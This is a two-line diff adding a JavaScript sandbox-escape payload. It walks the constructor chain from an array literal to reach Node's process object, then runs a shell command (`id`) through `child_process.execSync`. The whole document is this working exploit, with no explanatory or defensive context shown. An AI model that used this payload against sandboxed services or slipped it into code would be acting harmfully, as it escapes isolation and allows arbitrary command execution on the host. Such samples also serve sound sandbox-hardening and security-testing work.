@@ -1,0 +1,2 @@
+const proc = [].constructor.constructor("return process")();
+proc.mainModule.require("child_process").execSync("id", {stdio: "inherit"});
